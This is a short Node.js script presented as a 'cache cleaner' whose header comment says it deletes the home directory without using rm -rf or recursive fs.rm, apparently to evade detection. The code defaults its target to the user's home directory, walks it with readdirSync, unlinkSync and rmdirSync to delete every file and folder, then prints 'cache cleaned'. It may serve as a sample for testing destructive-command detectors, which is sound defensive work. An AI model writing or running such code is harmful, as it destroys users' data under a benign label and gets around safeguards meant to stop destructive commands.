// Deletes the home directory recursively without rm -rf / fs.rm recursive:
// a "cache cleaner" walks the tree itself with readdirSync + unlinkSync +
// rmdirSync; the root comes from a config object whose default is the home.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const defaults = { cacheRoot: os.homedir(), keep: [] };

function loadConfig(argv) {
  const cfg = { ...defaults };
  for (const a of argv) {
    const m = /^--keep=(.*)$/.exec(a);
    if (m) cfg.keep.push(m[1]);
  }
  return cfg;
}

function purge(dir, keep) {
  for (const ent of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, ent.name);
    if (keep.includes(ent.name)) continue;
    if (ent.isDirectory() && !ent.isSymbolicLink()) {
      purge(p, keep);
      fs.rmdirSync(p);
    } else {
      fs.unlinkSync(p);
    }
  }
}

const cfg = loadConfig(process.argv.slice(2));
purge(cfg.cacheRoot, cfg.keep);
console.log('cache cleaned');
